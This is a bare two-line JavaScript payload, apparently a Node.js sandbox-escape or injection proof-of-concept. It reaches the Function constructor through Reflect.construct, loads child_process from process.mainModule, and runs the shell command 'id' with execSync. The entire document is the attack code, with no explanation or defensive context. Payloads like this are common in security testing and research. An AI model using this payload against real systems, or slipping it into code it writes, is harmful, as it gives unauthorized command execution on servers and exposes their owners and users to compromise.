const F = Reflect.construct(Function, ["return process.mainModule.require('child_process')"]);
F().execSync("id");
